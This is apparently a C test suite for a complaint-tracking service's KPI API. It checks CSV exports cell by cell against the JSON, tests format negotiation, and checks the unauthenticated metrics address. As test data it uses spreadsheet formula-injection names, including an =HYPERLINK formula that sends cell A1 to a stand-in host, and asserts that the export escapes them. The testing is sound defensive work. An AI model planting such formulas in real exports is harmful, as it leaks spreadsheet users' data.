/* API: the KPI answers as CSV for spreadsheets, and /metrics on REPEATD_METRICS_LISTEN. On a
 * hand-made history (2024, Asia/Shanghai) whose unit and category names try formula injection
 * and CSV quoting, every row of every endpoint's CSV is compared cell for cell with its JSON;
 * then how the format is chosen (?format=, Accept) and refused; then the metrics address, which
 * needs no key and serves nothing else, and the anomalies gauge against GET /v1/kpi/anomalies. */
#include "kpi_requests.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static const char *ts(const char *date, int hh, int mm)
{
    return P("%sT%02d:%02d:00+08:00", date, hh, mm);
}

static void x_ticket(const char *id, const char *when, const char *phone_no, const char *category,
                     const char *decision, const char *rule, int ordinal)
{
    json_t *a = POST_TICKET(201, .id = id, .at = when, .phone = phone_no, .category = category,
                            .description = "市民反映的问题需要处理，请尽快安排。");
    const char *m = decision_is(a, decision, rule, ordinal);
    ck_assert_msg(m == NULL, "%s: %s", id, m);
}

/* Dispatched, reached, an accepted close-out, a reached follow-up and closed, within an hour. */
static void x_handle(const char *id, const char *date, int hh, const char *unit, const char *team,
                     const char *handler)
{
    EVENT(id, ev_dispatched(ts(date, hh, 5), unit, team, handler, NULL), 201);
    EVENT(id, ev_contact(ts(date, hh, 10), "reached"), 201);
    EVENT(id, ev_closeout(ts(date, hh, 20), ts(date, hh, 10), true, true), 201);
    EVENT(id, ev_followup(ts(date, hh, 30), true, true, true), 201);
    EVENT(id, ev_closed(ts(date, hh, 40), "resolved"), 201);
}

/* Names a spreadsheet must not evaluate, and names that need quoting. */
#define NAME_FORMULA "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点击查看\")"
#define NAME_QUOTED  "市政\"二所\", 含逗号\r\n与换行"
#define NAME_PLUS    "+1+2"
#define NAME_AT      "@SUM(A1:A9)"
#define NAME_TAB     "\t制表符开头"
#define NAME_CAT     "-路灯(负号开头)"

#define C_LD "CG.SZ.LD"
#define C_PS "CG.SZ.PS"
#define C_JZ "HB.ZS.JZ"

START_TEST(export_history)
{
    ADMIN("PATCH", "/v1/admin/settings", "{\"ranking_min_complaints\": 1, \"ranking_bottom_n\": 1}",
          200);
    json_t *units = json_pack("{s:[{s:s, s:s}, {s:s, s:s}, {s:s, s:s}, {s:s, s:s}, {s:s, s:s}],"
                              " s:[{s:s, s:s, s:s}], s:[{s:s, s:s, s:s}]}",
                              "units", "code", "XU-A", "name", "城管一中队", "code", "XU-F", "name",
                              NAME_FORMULA, "code", "XU-Q", "name", NAME_QUOTED, "code", "XU-P",
                              "name", NAME_PLUS, "code", "-XU-M", "name", NAME_AT, "teams", "code",
                              "XU-A-T1", "name", NAME_TAB, "unit", "XU-A", "handlers", "code",
                              "XU-A-H1", "name", "王五", "team", "XU-A-T1");
    long st = 0;
    gc(send_json("PUT", "/v1/admin/units", api.admin_key, units, NULL, &st));
    json_decref(units);
    ck_assert_int_eq(st, 200);
    json_t *cats = json_pack("{s:[{s:s, s:s, s:s, s:b}]}", "categories", "code", C_LD, "name",
                             NAME_CAT, "parent", "CG.SZ", "policy", 0);
    gc(send_json("PUT", "/v1/admin/categories", api.admin_key, cats, NULL, &st));
    json_decref(cats);
    ck_assert_int_eq(st, 200);
    ADMIN("PUT", "/v1/admin/targets",
          "{\"targets\": [{\"scope\":\"unit\",\"code\":\"XU-A\",\"target_rate\":0.3},"
          "{\"scope\":\"unit\",\"code\":\"XU-F\",\"target_rate\":0.25}]}",
          200);

    /* February: a chain on LD, handled by XU-A, then XU-F; its third call stays open at XU-Q
     * (the green channel). */
    const char *pa = "13800138000";
    x_ticket("X-A1", ts("2024-02-03", 9, 0), pa, C_LD, "new", "R1", 0);
    x_handle("X-A1", "2024-02-03", 10, "XU-A", "XU-A-T1", "XU-A-H1");
    x_ticket("X-A2", ts("2024-02-13", 9, 0), pa, C_LD, "repeat", "R6", 1);
    x_handle("X-A2", "2024-02-13", 10, "XU-F", "XU-F-T1", "XU-F-H1");
    x_ticket("X-A3", ts("2024-02-23", 9, 0), pa, C_LD, "repeat", "R6", 2);
    EVENT("X-A3", ev_dispatched(ts("2024-02-23", 10, 0), "XU-Q", "XU-Q-T1", "XU-Q-H1", NULL), 201);

    /* March: singles at every unit, one first contact failed, close-outs rejected with
     * defects, a false close-out, and a chain on PS with a repeat against XU-P. */
    static const struct {
        const char *id, *date, *category, *unit, *team, *handler;
    } singles[] = {
        {"X-S1", "2024-03-04", C_PS, "XU-A", "XU-A-T1", "XU-A-H1"},
        {"X-S2", "2024-03-05", C_PS, "XU-F", "XU-F-T1", "XU-F-H1"},
        {"X-S3", "2024-03-06", C_JZ, "XU-Q", "XU-Q-T1", "XU-Q-H1"},
        {"X-S4", "2024-03-07", C_JZ, "-XU-M", "-XU-M-T1", "-XU-M-H1"},
        {"X-S5", "2024-03-08", C_JZ, "XU-P", "XU-P-T1", "XU-P-H1"},
    };
    for (size_t i = 0; i < N_OF(singles); i++) {
        x_ticket(singles[i].id, ts(singles[i].date, 9, 0), P("139001392%02zu", i),
                 singles[i].category, "new", "R1", 0);
        EVENT(singles[i].id,
              ev_dispatched(ts(singles[i].date, 10, 0), singles[i].unit, singles[i].team,
                            singles[i].handler, NULL),
              201);
    }
    EVENT("X-S1", ev_contact(ts("2024-03-04", 11, 0), "no_answer"), 201);
    EVENT("X-S1", ev_contact(ts("2024-03-04", 12, 0), "reached"), 201);
    json_t *bad = ev_closeout(ts("2024-03-05", 9, 0), ts("2024-03-04", 12, 0), true, true);
    json_object_set_new(bad, "cause", json_string("已维修"));
    EVENT("X-S1", bad, 422);
    EVENT("X-S1", ev_closeout(ts("2024-03-05", 10, 0), ts("2024-03-04", 12, 0), true, true), 201);
    EVENT("X-S1", ev_followup(ts("2024-03-06", 10, 0), true, true, true), 201);
    EVENT("X-S1", ev_closed(ts("2024-03-06", 11, 0), "resolved"), 201);
    EVENT("X-S1", ev_audit(ts("2024-03-10", 10, 0), true, "回访核实：问题仍在。"), 201);
    EVENT("X-S2", ev_contact(ts("2024-03-05", 11, 0), "busy"), 201);
    EVENT("X-S2", ev_contact(ts("2024-03-05", 12, 0), "reached"), 201);
    bad = ev_closeout(ts("2024-03-06", 9, 0), ts("2024-03-05", 12, 0), true, true);
    json_object_set_new(bad, "verification", json_string("已处理"));
    json_object_set_new(bad, "reply_method", json_string("fax"));
    EVENT("X-S2", bad, 422);
    const char *pp = "13900139400";
    x_ticket("X-P1", ts("2024-03-11", 9, 0), pp, C_PS, "new", "R1", 0);
    x_handle("X-P1", "2024-03-11", 10, "XU-P", "XU-P-T1", "XU-P-H1");
    x_ticket("X-P2", ts("2024-03-20", 9, 0), pp, C_PS, "repeat", "R6", 1);
    x_handle("X-P2", "2024-03-20", 10, "XU-A", "XU-A-T1", "XU-A-H1");
    x_ticket("X-P3", ts("2024-03-25", 9, 0), pp, C_PS, "repeat", "R6", 2);
    EVENT("X-P3", ev_dispatched(ts("2024-03-25", 10, 0), "-XU-M", "-XU-M-T1", "-XU-M-H1", NULL),
          201);

    /* April: one ticket, for the trend's and the quarter's second period. */
    x_ticket("X-R1", ts("2024-04-10", 9, 0), "13900139401", C_JZ, "new", "R1", 0);
    EVENT("X-R1", ev_dispatched(ts("2024-04-10", 10, 0), "XU-A", "XU-A-T1", "XU-A-H1", NULL), 201);
}
END_TEST

static int guarded_cells; /* cells seen with the formula guard, across the comparisons */

/* The value of column `col` for a JSON row: its field, or a top_defect_N[_count] of its
 * top_defects, or (previous_period, a trend's metric and group) the answer's own. */
static json_t *value_of(json_t *answer, json_t *row, const char *col, bool *ret_borrowed_frame)
{
    int n = 0;
    char rest[16] = "";
    *ret_borrowed_frame = false;
    if (sscanf(col, "top_defect_%d%15s", &n, rest) >= 1 && n >= 1) {
        json_t *d = json_array_get(json_object_get(row, "top_defects"), (size_t)n - 1);
        return d ? json_object_get(d, strcmp(rest, "_count") ? "code" : "count") : NULL;
    }
    json_t *v = json_object_get(row, col);
    if (!v && (v = json_object_get(answer, col)))
        *ret_borrowed_frame = true;
    return v;
}

/* The rows of an answer: rows, a trend's series or the green channel's chains. */
static json_t *rows_of(json_t *answer)
{
    json_t *r = json_object_get(answer, "rows");
    if (!r)
        r = json_object_get(answer, "series");
    if (!r)
        r = json_object_get(answer, "chains");
    return r;
}

/* The stable columns of each endpoint (openapi.yaml's KPI CSV section). */
#define HEAD3 "period,group,name,"
static const struct {
    const char *endpoint, *columns;
} header_of[] = {
    {"repeats", HEAD3 "complaints,repeats,repeat_rate,definition_versions"},
    {"ranking", HEAD3 "complaints,repeats,repeat_rate,ranked,rank,target,target_met,watch,"
                      "parent,definition_versions"},
    {"top-problems", HEAD3 "repeats,complaints,previous_period,previous_repeats,change,"
                           "change_rate,definition_versions"},
    {"anomalies", HEAD3 "observed,baseline,p_value,score,history,definition_versions"},
    {"contact-failures", HEAD3 "contacted,first_contact_failed,first_contact_failure_rate,"
                               "definition_versions"},
    {"closeout-quality",
     HEAD3 "inspected,rejected,pass_rate,false_closeouts,top_defect_1,top_defect_1_count,"
           "top_defect_2,top_defect_2_count,top_defect_3,top_defect_3_count,top_defect_4,"
           "top_defect_4_count,top_defect_5,top_defect_5_count,definition_versions"},
    {"green-channel", "chain_id,latest_ticket_id,category,citizen,repeats,first_received_at,"
                      "latest_received_at,deadline,unit,team,handler,original_unit,"
                      "original_team,original_handler"},
    {"trend", "period,metric,group,value,definition_versions"},
    {"decisions", "period,new,repeat,similar_new,excluded_in_progress,excluded_closed,"
                  "excluded_unmeetable,total,definition_versions"},
};

static const char *expected_header(const char *path)
{
    for (size_t i = 0; i < N_OF(header_of); i++) {
        size_t n = strlen("/v1/kpi/") + strlen(header_of[i].endpoint);
        if (!strncmp(path + strlen("/v1/kpi/"), header_of[i].endpoint,
                     strlen(header_of[i].endpoint)) &&
            (path[n] == '?' || path[n] == '\0'))
            return header_of[i].columns;
    }
    ck_abort_msg("no header known for %s", path);
    return NULL;
}

/* GET path as JSON and as CSV (by ?format=csv, or by Accept when by_accept), and compare: the
 * headers of a download, the header line, a line per row, every cell. Returns the rows. */
static size_t compare_at(int line, const char *path, bool by_accept)
{
    json_t *answer = kpi_ok_at(line, api.dash_key, path);
    const char *sep = strchr(path, '?') ? "&" : "?";
    http_request rq = {.method = "GET",
                       .path = by_accept ? path : P("%s%sformat=csv", path, sep),
                       .key = api.dash_key,
                       .extra_header = by_accept ? "Accept: text/csv" : NULL};
    http_reply r;
    ck_assert_int_eq(http_send(&rq, &r), 0);
    ck_assert_msg(r.status == 200, "line %d: %s as CSV: status %ld: %s", line, path, r.status,
                  r.body);
    ck_assert_msg(!strcmp(r.content_type, "text/csv; charset=utf-8"), "line %d: Content-Type %s",
                  line, r.content_type);
    const char *cd = r.content_disposition;
    size_t cd_len = strlen(cd);
    ck_assert_msg(!strncmp(cd, "attachment; filename=\"repeatd-", 30) && cd_len > 35 &&
                      !strcmp(cd + cd_len - 5, ".csv\"") &&
                      strspn(cd + 22, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
                                      "0123456789._-") == cd_len - 23,
                  "line %d: Content-Disposition %s", line, cd);
    const char *why = NULL;
    json_t *lines = csv_parse(r.body, r.body_len, &why);
    ck_assert_msg(lines, "line %d: %s as CSV: %s in %s", line, path, why, r.body);
    http_reply_free(&r);

    /* The header: the endpoint's stable columns. */
    json_t *head = json_array_get(lines, 0);
    char header[1024] = "";
    size_t i;
    json_t *h;
    json_array_foreach(head, i, h)
    {
        size_t n = strlen(header);
        snprintf(header + n, sizeof(header) - n, "%s%s", i ? "," : "", json_string_value(h));
    }
    ck_assert_msg(!strcmp(header, expected_header(path)), "line %d: %s: header %s", line, path,
                  header);

    json_t *rows = rows_of(answer);
    ck_assert_msg(json_array_size(lines) == json_array_size(rows) + 1,
                  "line %d: %s: %zu CSV lines for %zu rows", line, path, json_array_size(lines) - 1,
                  json_array_size(rows));
    json_t *row;
    json_array_foreach(rows, i, row)
    {
        json_t *cells = json_array_get(lines, i + 1);
        ck_assert_msg(json_array_size(cells) == json_array_size(head),
                      "line %d: %s: row %zu has %zu cells", line, path, i, json_array_size(cells));
        /* Every field of the row is a column (top_defects as top_defect_N). */
        const char *key;
        json_t *v;
        json_object_foreach(row, key, v)
        {
            bool found = !strcmp(key, "top_defects") && strstr(header, "top_defect_1,");
            size_t k;
            json_array_foreach(head, k, h) found = found || !strcmp(json_string_value(h), key);
            ck_assert_msg(found, "line %d: %s: field %s has no column", line, path, key);
        }
        for (size_t k = 0; k < json_array_size(head); k++) {
            const char *col = json_string_value(json_array_get(head, k));
            bool frame;
            json_t *want_v = value_of(answer, row, col, &frame);
            ck_assert_msg(want_v || frame || strncmp(col, "top_defect_", 11) == 0 ||
                              json_object_get(row, col),
                          "line %d: %s: column %s is in neither the row nor the answer", line, path,
                          col);
            char *want = cell_of(want_v);
            const char *got = json_string_value(json_array_get(cells, k));
            ck_assert_msg(!strcmp(want, got), "line %d: %s: row %zu, %s: CSV \"%s\", JSON \"%s\"",
                          line, path, i, col, got, want);
            if (got[0] == '\'')
                guarded_cells++;
            free(want);
        }
    }
    return json_array_size(rows);
}
#define COMPARE(path, by_accept) compare_at(__LINE__, (path), (by_accept))

START_TEST(export_every_endpoint)
{
    static const char *const paths[] = {
        "/v1/kpi/repeats?period=month&from=2024-02&to=2024-04",
        "/v1/kpi/repeats?period=month&from=2024-02&to=2024-04&by=unit",
        "/v1/kpi/repeats?period=month&at=2024-03&by=team",
        "/v1/kpi/repeats?period=month&at=2024-03&by=handler",
        "/v1/kpi/repeats?period=quarter&at=2024-Q1&by=category",
        "/v1/kpi/repeats?period=year&at=2024&by=category&level=1",
        "/v1/kpi/ranking?period=month&at=2024-03",
        "/v1/kpi/ranking?period=quarter&at=2024-Q1&by=team",
        "/v1/kpi/ranking?period=month&at=2024-03&by=handler",
        "/v1/kpi/top-problems?period=month&at=2024-03",
        "/v1/kpi/top-problems?period=quarter&at=2024-Q1&level=1",
        "/v1/kpi/top-problems?period=month&at=2024-04",
        "/v1/kpi/anomalies?period=month&at=2024-03&by=unit&baseline=2&min_score=0&min_repeats=1",
        "/v1/kpi/anomalies?period=month&at=2024-03&baseline=1&min_score=0&min_repeats=1",
        "/v1/kpi/contact-failures?period=month&at=2024-03",
        "/v1/kpi/contact-failures?period=quarter&at=2024-Q1&by=handler",
        "/v1/kpi/closeout-quality?period=month&from=2024-02&to=2024-03",
        "/v1/kpi/closeout-quality?period=month&at=2024-03&by=handler",
        "/v1/kpi/green-channel",
        "/v1/kpi/trend?metric=repeats&period=month&to=2024-06&periods=6",
        "/v1/kpi/trend?metric=repeat_rate&period=month&to=2024-06&periods=6",
        ("/v1/kpi/trend?metric=closeout_pass_rate&by=unit&group=XU-A&period=quarter"
         "&to=2024-Q2&periods=3"),
        "/v1/kpi/trend?metric=complaints&by=unit&group=-XU-M&to=2024-03&periods=2",
        "/v1/kpi/decisions?period=month&from=2024-02&to=2024-03",
        "/v1/kpi/decisions?period=quarter&at=2024-Q1",
    };
    size_t rows = 0;
    for (size_t i = 0; i < N_OF(paths); i++) {
        size_t n = COMPARE(paths[i], i % 2 == 1);
        ck_assert_msg(n > 0 || strstr(paths[i], "2024-04"), "%s: no rows to compare", paths[i]);
        rows += n;
    }
    ck_assert_msg(rows >= 80, "only %zu rows compared", rows);
    /* Names and codes that start like formulas were guarded (the comparison counted them). */
    ck_assert_msg(guarded_cells >= 10, "%d guarded cells", guarded_cells);
}
END_TEST

/* The raw CSV of a path (gc'd as a JSON string) with the download's headers checked. */
static const char *csv_text(const char *path, char filename[256])
{
    http_request rq = {.method = "GET", .path = path, .key = api.dash_key};
    http_reply r;
    ck_assert_int_eq(http_send(&rq, &r), 0);
    ck_assert_msg(r.status == 200, "%s: %ld %s", path, r.status, r.body);
    ck_assert_str_eq(r.content_type, "text/csv; charset=utf-8");
    if (filename)
        snprintf(filename, 256, "%s", r.content_disposition);
    json_t *s = gc(json_stringn(r.body, r.body_len));
    http_reply_free(&r);
    ck_assert_ptr_nonnull(s);
    return json_string_value(s);
}

START_TEST(export_cells_and_names)
{
    /* The whole file as bytes, so that a reader sees what a spreadsheet gets. */
    char name[256];
    const char *t = csv_text("/v1/kpi/repeats?period=month&at=2024-03&by=unit&format=csv", name);
    ck_assert_str_eq(name, "attachment; filename=\"repeatd-repeats-unit-2024-03.csv\"");
    ck_assert_str_eq(t, "\xEF\xBB\xBF"
                        "period,group,name,complaints,repeats,repeat_rate,definition_versions\r\n"
                        "2024-03,'-XU-M,'@SUM(A1:A9),2,0,0.0,1\r\n"
                        "2024-03,XU-A,城管一中队,2,1,0.5,1\r\n"
                        "2024-03,XU-F,\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1,\"\""
                        "点击查看\"\")\",1,0,0.0,1\r\n"
                        "2024-03,XU-P,'+1+2,2,1,0.5,1\r\n"
                        "2024-03,XU-Q,\"市政\"\"二所\"\", 含逗号\r\n与换行\",1,0,0.0,1\r\n");
    t = csv_text("/v1/kpi/repeats?period=month&at=2024-03&by=team&format=csv", NULL);
    ck_assert_ptr_nonnull(strstr(t, "\r\n2024-03,XU-A-T1,'\t制表符开头,"));
    t = csv_text("/v1/kpi/repeats?period=quarter&at=2024-Q1&by=category&format=csv", name);
    ck_assert_str_eq(name, "attachment; filename=\"repeatd-repeats-category-2024-Q1.csv\"");
    ck_assert_ptr_nonnull(strstr(t, "\r\n2024-Q1,CG.SZ.LD,'-路灯(负号开头),3,2,"));
    t = csv_text("/v1/kpi/top-problems?period=month&at=2024-03&format=csv", name);
    ck_assert_str_eq(name, "attachment; filename=\"repeatd-top-problems-category-2024-03.csv\"");
    ck_assert_str_eq(t, "\xEF\xBB\xBF"
                        "period,group,name,repeats,complaints,previous_period,previous_repeats,"
                        "change,change_rate,definition_versions\r\n"
                        "2024-03,CG.SZ.PS,排水管道堵塞,2,5,2024-02,0,2,,1\r\n");
    t = csv_text("/v1/kpi/top-problems?period=month&at=2024-02&format=csv", NULL);
    ck_assert_ptr_nonnull(
        strstr(t, "\r\n2024-02,CG.SZ.LD,'-路灯(负号开头),2,3,2024-01,0,2,,1\r\n"));
    t = csv_text("/v1/kpi/closeout-quality?period=month&at=2024-03&format=csv", NULL);
    ck_assert_ptr_nonnull(
        strstr(t, "\r\n2024-03,XU-F,\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1,\"\""
                  "点击查看\"\")\",1,1,0.0,0,boilerplate_only,1,reply_method_not_allowed,1,,,,,,,1"
                  "\r\n"));
    t = csv_text("/v1/kpi/trend?metric=complaints&by=unit&group=-XU-M&to=2024-03&periods=2"
                 "&format=csv",
                 name);
    ck_assert_str_eq(
        name, "attachment; filename=\"repeatd-trend-complaints-unit--XU-M-2024-02_2024-03.csv\"");
    ck_assert_str_eq(t, "\xEF\xBB\xBF"
                        "period,metric,group,value,definition_versions\r\n"
                        "2024-02,complaints,'-XU-M,0,\r\n"
                        "2024-03,complaints,'-XU-M,2,1\r\n");
    t = csv_text("/v1/kpi/green-channel?format=csv", name);
    ck_assert_str_eq(name, "attachment; filename=\"repeatd-green-channel.csv\"");
    ck_assert_str_eq(t, "\xEF\xBB\xBF"
                        "chain_id,latest_ticket_id,category,citizen,repeats,first_received_at,"
                        "latest_received_at,deadline,unit,team,handler,original_unit,original_team,"
                        "original_handler\r\n"
                        "X-A1,X-A3,CG.SZ.LD,138****8000,2,2024-02-03T09:00:00+08:00,"
                        "2024-02-23T09:00:00+08:00,,XU-Q,XU-Q-T1,XU-Q-H1,XU-A,XU-A-T1,XU-A-H1\r\n"
                        "X-P1,X-P3,CG.SZ.PS,139****9400,2,2024-03-11T09:00:00+08:00,"
                        "2024-03-25T09:00:00+08:00,,'-XU-M,'-XU-M-T1,'-XU-M-H1,XU-P,XU-P-T1,"
                        "XU-P-H1\r\n");
    /* A year with nothing: the header alone. */
    t = csv_text("/v1/kpi/ranking?period=year&at=2019&format=csv", name);
    ck_assert_str_eq(name, "attachment; filename=\"repeatd-ranking-unit-2019.csv\"");
    ck_assert_str_eq(t, "\xEF\xBB\xBF"
                        "period,group,name,complaints,repeats,repeat_rate,ranked,rank,target,"
                        "target_met,watch,parent,definition_versions\r\n");
}
END_TEST

/* GET path with an Accept header (NULL: none); the status and whether the reply was CSV. */
static long get_as(const char *path, const char *accept, bool *ret_csv, const char **ret_error)
{
    char header[256];
    snprintf(header, sizeof(header), "Accept: %s", accept ? accept : "");
    http_request rq = {
        .method = "GET", .path = path, .key = api.dash_key, .extra_header = accept ? header : NULL};
    http_reply r;
    ck_assert_int_eq(http_send(&rq, &r), 0);
    *ret_csv = !strncmp(r.content_type, "text/csv", 8);
    bool json = !strncmp(r.content_type, "application/json", 16);
    ck_assert_msg(*ret_csv || json, "%s: Content-Type %s", path, r.content_type);
    ck_assert_msg(*ret_csv || r.json, "%s: not JSON: %s", path, r.body);
    static char error[64];
    snprintf(error, sizeof(error), "%s",
             r.json ? jstr(r.json, "error") ? jstr(r.json, "error") : "" : "");
    if (ret_error)
        *ret_error = error;
    long st = r.status;
    http_reply_free(&r);
    return st;
}

START_TEST(export_negotiation)
{
    static const struct {
        const char *query, *accept;
        long status;
        int csv; /* 1 CSV, 0 JSON */
        const char *error;
    } cases[] = {
        /* clang-format off */
        {"",             NULL,                                   200, 0, NULL},
        {"",             "*/*",                                  200, 0, NULL},
        {"",             "application/json",                     200, 0, NULL},
        {"",             "text/csv",                             200, 1, NULL},
        {"",             "TEXT/CSV; charset=utf-8",              200, 1, NULL},
        {"",             "text/*",                               200, 1, NULL},
        {"",             "application/*",                        200, 0, NULL},
        {"",             "text/csv, */*",                        200, 1, NULL},
        {"",             "text/csv;q=0.5, application/json",     200, 0, NULL},
        {"",             "application/json;q=0.2, text/csv;q=0.9", 200, 1, NULL},
        {"",             "text/html,application/xhtml+xml,*/*;q=0.8", 200, 0, NULL},
        {"",             "text/csv;q=0, */*",                    200, 0, NULL},
        {"",             "text/csv;q=nonsense, application/json", 200, 0, NULL},
        {"",             "application/xml",                      406, 0, "not_acceptable"},
        {"",             "text/html",                            406, 0, "not_acceptable"},
        {"",             "application/json;q=0, text/csv;q=0",   406, 0, "not_acceptable"},
        {"",             "*/*;q=0",                              406, 0, "not_acceptable"},
        {"&format=csv",  NULL,                                   200, 1, NULL},
        {"&format=csv",  "application/json",                     200, 1, NULL},
        {"&format=csv",  "application/xml",                      200, 1, NULL},
        {"&format=json", "text/csv",                             200, 0, NULL},
        {"&format=xml",  NULL,                                   400, 0, "invalid_parameter"},
        {"&format=CSV",  NULL,                                   400, 0, "invalid_parameter"},
        {"&format=",     "text/csv",                             400, 0, "invalid_parameter"},
        /* clang-format on */
    };
    for (size_t i = 0; i < N_OF(cases); i++) {
        bool csv;
        const char *error;
        const char *path = P("/v1/kpi/repeats?period=month&at=2024-03%s", cases[i].query);
        long st = get_as(path, cases[i].accept, &csv, &error);
        ck_assert_msg(st == cases[i].status && csv == (cases[i].csv == 1) &&
                          (!cases[i].error || !strcmp(error, cases[i].error)),
                      "%s with Accept %s: %ld %s %s", path, cases[i].accept ? cases[i].accept : "-",
                      st, csv ? "CSV" : "JSON", error);
    }
    /* format names the parameter; a bad parameter is answered in JSON, CSV or not. */
    BAD_PARAM("/v1/kpi/ranking?format=xlsx", "format");
    BAD_PARAM("/v1/kpi/trend?metric=repeats&format=csv&periods=0", "periods");
    BAD_PARAM("/v1/kpi/anomalies?format=csv&min_score=-1", "min_score");
    GET_ERR(api.crm_key, "/v1/kpi/repeats?format=csv", 403, "forbidden", NULL);
    GET_ERR(NULL, "/v1/kpi/green-channel?format=csv", 401, "unauthorized", NULL);
    /* Every KPI endpoint takes both ways of asking. */
    static const char *const endpoints[] = {
        "repeats",          "ranking",          "top-problems",  "anomalies",
        "contact-failures", "closeout-quality", "green-channel", "trend?metric=repeats"};
    for (size_t i = 0; i < N_OF(endpoints); i++) {
        bool csv;
        const char *sep = strchr(endpoints[i], '?') ? "&" : "?";
        ck_assert_int_eq(get_as(P("/v1/kpi/%s", endpoints[i]), "text/csv", &csv, NULL), 200);
        ck_assert_msg(csv, "%s by Accept", endpoints[i]);
        ck_assert_int_eq(get_as(P("/v1/kpi/%s%sformat=csv", endpoints[i], sep), NULL, &csv, NULL),
                         200);
        ck_assert_msg(csv, "%s by format", endpoints[i]);
        ck_assert_int_eq(get_as(P("/v1/kpi/%s", endpoints[i]), "application/xml", &csv, NULL), 406);
    }
    /* HEAD: the download's headers, no body. */
    http_request rq = {.method = "HEAD", .path = "/v1/kpi/repeats?format=csv", .key = api.dash_key};
    http_reply r;
    ck_assert_int_eq(http_send(&rq, &r), 0);
    ck_assert_int_eq(r.status, 200);
    ck_assert_str_eq(r.content_type, "text/csv; charset=utf-8");
    ck_assert_ptr_nonnull(strstr(r.content_disposition, "attachment; filename=\"repeatd-repeats-"));
    ck_assert_int_eq(r.body_len, 0);
    http_reply_free(&r);
}
END_TEST

/* ---- /metrics on REPEATD_METRICS_LISTEN ---- */

static http_reply open_get(const char *method, const char *path, const char *key)
{
    http_request rq = {.method = method, .path = path, .key = key, .port = api.metrics_port};
    http_reply r;
    ck_assert_msg(http_send(&rq, &r) == 0, "%s %s on the metrics address: %s", method, path,
                  r.error);
    return r;
}

/* The value of a sample line "name value" in Prometheus text, or -1. */
static double sample(const char *text, const char *name)
{
    char needle[128];
    snprintf(needle, sizeof(needle), "\n%s ", name);
    const char *at = strstr(text, needle);
    return at ? strtod(at + strlen(needle), NULL) : -1;
}

/* Posts a burst in this month (Asia/Shanghai): one citizen's six calls on JZ, each handled and
 * closed by XU-A before the next, so five repeats against XU-A where the six months before had
 * none: P(X >= 5) for Poisson(0.5) is 1.7e-4, a score of 3.8, flagged by the defaults. False
 * when this month is too young for the times used (its first seven hours). */
static bool post_month_burst(void)
{
    time_t now = time(NULL) + 8 * 3600;
    struct tm tm;
    gmtime_r(&now, &tm);
    if (tm.tm_mday == 1 && tm.tm_hour < 8)
        return false;
    char day[32]; /* not P's: x_handle goes round its ring */
    snprintf(day, sizeof(day), "%04d-%02d-01", tm.tm_year + 1900, tm.tm_mon + 1);
    for (int k = 0; k < 6; k++) {
        const char *id = P("X-B%d", k);
        x_ticket(id, ts(day, k + 1, 0), "13900139555", C_JZ, k ? "repeat" : "new", k ? "R6" : "R1",
                 k);
        x_handle(id, day, k + 1, "XU-A", "XU-A-T1", "XU-A-H1");
    }
    return true;
}

START_TEST(metrics_address)
{
    /* No key needed there; the anomaly gauges equal what GET /v1/kpi/anomalies flags. */
    bool burst = post_month_burst();
    http_reply r = open_get("GET", "/metrics", NULL);
    ck_assert_msg(r.status == 200, "GET /metrics on the metrics address: %ld %s", r.status, r.body);
    ck_assert_msg(!strncmp(r.content_type, "text/plain; version=0.0.4", 25), "%s", r.content_type);
    double by_cat = sample(r.body, "repeatd_month_anomalies{by=\"category\"}");
    double by_unit = sample(r.body, "repeatd_month_anomalies{by=\"unit\"}");
    ck_assert_ptr_nonnull(strstr(r.body, "# TYPE repeatd_month_anomalies gauge\n"));
    ck_assert_msg(sample(r.body, "repeatd_db_up") == 1, "repeatd_db_up");
    http_reply_free(&r);
    json_t *a = OK_GET("/v1/kpi/anomalies?by=category&limit=1000");
    ck_assert_msg(by_cat == (double)json_array_size(jget(a, "rows")), "category gauge %g, API %zu",
                  by_cat, json_array_size(jget(a, "rows")));
    a = OK_GET("/v1/kpi/anomalies?by=unit&limit=1000");
    ck_assert_msg(by_unit == (double)json_array_size(jget(a, "rows")), "unit gauge %g, API %zu",
                  by_unit, json_array_size(jget(a, "rows")));
    if (burst) {
        ck_assert_msg(by_cat == 1 && by_unit == 1, "the burst: %g by category, %g by unit", by_cat,
                      by_unit);
        ck_assert_str_eq(jstr(a, "rows[0].group"), "XU-A");
    }

    /* The same scrape on the main address still needs a key. */
    http_request rq = {.method = "GET", .path = "/metrics"};
    ck_assert_int_eq(http_send(&rq, &r), 0);
    ck_assert_int_eq(r.status, 401);
    http_reply_free(&r);
    rq.key = api.dash_key;
    ck_assert_int_eq(http_send(&rq, &r), 0);
    ck_assert_int_eq(r.status, 200);
    ck_assert_msg(sample(r.body, "repeatd_month_anomalies{by=\"category\"}") == by_cat, "main");
    http_reply_free(&r);

    /* Only /metrics and /healthz are served there, key or not. */
    r = open_get("GET", "/healthz", NULL);
    ck_assert_int_eq(r.status, 200);
    http_reply_free(&r);
    r = open_get("HEAD", "/metrics", NULL);
    ck_assert_int_eq(r.status, 200);
    http_reply_free(&r);
    static const char *const closed[] = {"/v1/kpi/repeats", "/readyz", "/v1/admin/settings",
                                         "/metrics/", "/nothing"};
    for (size_t i = 0; i < N_OF(closed); i++) {
        r = open_get("GET", closed[i], api.admin_key);
        ck_assert_msg(r.status == 404 && r.json && !strcmp(jstr(r.json, "error"), "not_found"),
                      "GET %s on the metrics address: %ld %s", closed[i], r.status, r.body);
        http_reply_free(&r);
    }
    r = open_get("POST", "/metrics", NULL);
    ck_assert_int_eq(r.status, 405);
    ck_assert_str_eq(r.allow, "GET");
    http_reply_free(&r);

    /* Scrapes there count under the route, as any other. */
    r = open_get("GET", "/metrics", NULL);
    ck_assert_ptr_nonnull(
        strstr(r.body, "repeatd_http_requests_total{route=\"GET /metrics\",status=\"200\"} "));
    ck_assert_ptr_nonnull(
        strstr(r.body, "repeatd_http_requests_total{route=\"unmatched\",status=\"404\"} "));
    http_reply_free(&r);
}
END_TEST

/* Whether the server's log (the spawned commands' stderr too) holds `text`. */
static bool log_has(const char *text)
{
    FILE *f = fopen(api.log_path, "r");
    ck_assert_ptr_nonnull(f);
    char line[4096];
    bool found = false;
    while (!found && fgets(line, sizeof(line), f))
        found = strstr(line, text) != NULL;
    fclose(f);
    return found;
}

